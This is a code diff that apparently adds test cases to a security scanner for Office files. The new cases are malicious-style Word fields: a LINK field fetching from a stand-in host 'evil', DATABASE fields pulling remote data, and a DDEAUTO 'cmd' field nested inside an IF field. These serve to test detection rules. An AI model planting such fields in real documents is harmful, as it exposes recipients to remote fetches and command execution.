@@ -35,6 +35,12 @@ def formula(text: str) -> bytes:
     return cells(f'<row r="900"><c r="A900"><f>{text}</f><v>1</v></c></row>')
 
 
+def within(outer: str, inner: str) -> str:
+    """A field whose instruction ends in another field."""
+    separator = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+    return field(outer).replace(separator, field(inner)[len("<w:p>") : -len("</w:p>")] + separator)
+
+
 def cases(url: str) -> dict[str, tuple[bytes, str]]:
     """Files by what is wrong with them, each with the rule that tells; "" for none, "unread …" for one that refuses."""
     far = url.replace("http:", "file:") + "/share"
@@ -122,6 +128,14 @@ def cases(url: str) -> dict[str, tuple[bytes, str]]:
         "link to the web": (related(WORD, DOCUMENT, ("hyperlink", f"{url}/x", True)), ""),
         "link to a file": (related(WORD, DOCUMENT, ("hyperlink", "file:///C:/x.exe", True)), "SEC-05"),
         "fetching field": (body(field(f'INCLUDEPICTURE "{url}/x.png" \\d')), "SEC-05"),
+        "fetching fields": (
+            body(field("AUTHOR") + field('LINK Excel.Sheet.12 "\\\\evil\\share\\x.xlsx" R1C1 \\a')),
+            "SEC-05",
+        ),
+        "fetching field with a switch": (body(field(f'DATABASE \\d "{url}/x.mdb" \\s "SELECT 1"')), "SEC-05"),
+        "field within a field": (body(within("IF 1 = 1 ", "DDEAUTO cmd")), "SEC-02"),
+        "field of the writer's disk": (body(field('DATABASE \\d "C:\\\\a.mdb" \\c \\a')), ""),
+        "field that names DDE": (body(field('HYPERLINK "https://example.com/dde"')), ""),
         "linked workbook": (
             related(
                 SHEET,
